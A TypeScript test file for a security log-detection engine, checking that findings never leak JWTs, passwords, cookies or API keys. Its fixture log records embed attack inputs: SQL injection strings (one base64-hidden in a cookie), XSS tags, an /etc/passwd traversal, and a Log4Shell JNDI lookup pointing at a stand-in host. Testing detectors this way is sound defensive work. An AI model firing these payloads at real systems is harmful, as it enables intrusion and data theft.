// Secrets seen by detectors never leave the engine: findings carry no token, password, cookie or API key.
import { describe, expect, it } from 'vitest'
import { DEFAULT_BRUTEFORCE } from './bruteforce'
import { createEngine } from './engine'
import { readRuleSources, builtinRulesDir } from './rule-pack'
import { buildEvidence, scrubSecrets, summarizeAuthorization } from './redact'

// An unsigned test JWT: {"alg":"none"}.{"iss":"desk-idp","sub":"u-77","jti":"j-1","exp":1900000000}
const b64 = (o: object): string => Buffer.from(JSON.stringify(o)).toString('base64url')
const JWT = `${b64({ alg: 'none' })}.${b64({ iss: 'desk-idp', sub: 'u-77', jti: 'j-1', exp: 1900000000 })}.c2lnbmF0dXJlLXNlY3JldA`
const PASSWORD = 'Hunter2-Secret-Pass'
const COOKIE = 'sess-9f8e7d6c5b4a'
const API_KEY = 'ak_live_5f4e3d2c1b0a'
const PRIVATE_ACCOUNT = 'ACC-PRIVATE-5521'

function kong(
  line: number,
  extra: { uri: string; body?: string; ua?: string; cookie?: string },
): { line: number; text: string } {
  return {
    line,
    text: JSON.stringify({
      request: {
        id: `r${line}`,
        uri: extra.uri,
        method: extra.body ? 'POST' : 'GET',
        headers: {
          authorization: `Bearer ${JWT}`,
          cookie: extra.cookie ?? `desk_session=${COOKIE}; theme=dark' or 'a'='a`,
          apikey: API_KEY,
          'x-api-key': API_KEY,
          'user-agent': extra.ua ?? 'sqlmap/1.8',
          'content-type': 'application/json',
        },
        ...(extra.body ? { body: extra.body } : {}),
      },
      response: { status: 401 },
      client_ip: '203.0.113.66',
      started_at: 1773097203000 + line * 1000,
    }),
  }
}

describe('redaction', () => {
  it('summarises a bearer JWT as unverified claims and a hash', () => {
    const s = summarizeAuthorization(`Bearer ${JWT}`)
    expect(s.claims).toEqual({ iss: 'desk-idp', sub: 'u-77', jti: 'j-1', exp: 1900000000 })
    expect(s.unverified).toBe(true)
    expect(s.sha256).toMatch(/^[0-9a-f]{64}$/)
    expect(JSON.stringify(s)).not.toContain(JWT)
  })

  it('summarises a repeated value the same way, and different values differently', () => {
    const a = summarizeAuthorization(`Bearer ${JWT}`)
    expect(summarizeAuthorization(`Bearer ${JWT}`)).toEqual(a)
    const other = summarizeAuthorization('Basic dXNlcjpwYXNzd29yZA==')
    expect(other.scheme).toBe('Basic')
    expect(other.claims).toBeNull()
    expect(other.sha256).not.toBe(a.sha256)
    // Far more distinct values than the memo holds: each still gets its own hash.
    const hashes = new Set<string>()
    for (let i = 0; i < 3000; i++) hashes.add(summarizeAuthorization(`Token t-${i}`).sha256)
    expect(hashes.size).toBe(3000)
  })

  it('scrubs credential-looking text', () => {
    const t = scrubSecrets(`Authorization: Bearer ${JWT} password=${PASSWORD}&apikey=${API_KEY}`)
    for (const secret of [JWT, PASSWORD, API_KEY]) expect(t).not.toContain(secret)
  })

  it('shows only the field name and matched fragment for a secret-bearing field', () => {
    const e = buildEvidence('cookie:desk_session', true, `${COOKIE}' or 1=1`, "' or 1=1", 17)
    expect(e.evidence).toBe("cookie:desk_session: …' or 1=1…")
    expect(e.evidence).not.toContain(COOKIE)
  })

  it('keeps a base64 cookie decoded for matching out of the evidence but for the matched fragment', () => {
    const engine = createEngine(readRuleSources(builtinRulesDir()))
    const prefs = Buffer.from(
      `{"acct":"${PRIVATE_ACCOUNT}","sym":"x' union select card_no,cvv from cards-- "}`,
    ).toString('base64')
    const { findings } = engine.process({
      sourceId: 's',
      seq: 1,
      format: 'kong',
      records: [
        kong(1, { uri: '/api/v1/quotes', cookie: `desk_session=${COOKIE}; prefs=${prefs}` }),
      ],
      metrics: [],
      cursor: null,
    })
    const hit = findings.find((f) => f.field === 'cookie-b64:prefs')
    expect(hit?.category).toBe('sqli')
    expect(hit?.decoded).toBeNull()
    const out = JSON.stringify(findings)
    for (const secret of [PRIVATE_ACCOUNT, prefs, prefs.slice(0, 24), COOKIE])
      expect(out).not.toContain(secret)
  })

  it('never emits tokens, passwords, cookies or API keys in findings', () => {
    const engine = createEngine(readRuleSources(builtinRulesDir()), {
      bruteforce: {
        ...DEFAULT_BRUTEFORCE,
        windowMs: 60_000,
        failures: 3,
        distinctUsers: 2,
        suppressMs: 1,
        maxAddresses: 10,
      },
    })
    const records = [
      kong(1, {
        uri: `/auth/login?next=${encodeURIComponent('<script>x</script>')}`,
        body: JSON.stringify({ username: "a' or 1=1--", password: PASSWORD }),
      }),
      kong(2, {
        uri: `/api/v1/x?apikey=${API_KEY}&q=../../etc/passwd`,
        ua: `\${jndi:ldap://x.example/${JWT}}`,
      }),
      kong(3, { uri: '/auth/login', body: `grant_type=password&username=u1&password=${PASSWORD}` }),
      kong(4, {
        uri: '/auth/login',
        body: JSON.stringify({ username: 'u2', password: `${PASSWORD}' union select 1--` }),
      }),
      kong(5, { uri: `/auth/token?access_token=${JWT}&x=<svg/onload=1>` }),
      // password fields named in other languages (a Brazilian and a German login), one injected
      kong(6, {
        uri: '/api/auth/login',
        body: JSON.stringify({ cpf: '52998224725', senha: `${PASSWORD}' or '1'='1` }),
      }),
      kong(7, {
        uri: '/konto/anmelden',
        body: `benutzername=u3&kennwort=${PASSWORD}%27%20union%20select%201--&nova_senha=${PASSWORD}`,
      }),
    ]
    const { findings } = engine.process({
      sourceId: 's',
      seq: 1,
      format: 'kong',
      records,
      metrics: [],
      cursor: null,
    })
    expect(findings.length).toBeGreaterThan(5)
    const out = JSON.stringify(findings)
    for (const secret of [JWT, PASSWORD, COOKIE, API_KEY, JWT.split('.')[2] ?? 'x'])
      expect(out).not.toContain(secret)
    const withToken = findings.find((f) => f.details['token.sub'] !== undefined)
    expect(withToken?.details).toMatchObject({
      'token.sub': 'u-77',
      'token.iss': 'desk-idp',
      'token.unverified': 'true',
    })
  })
})
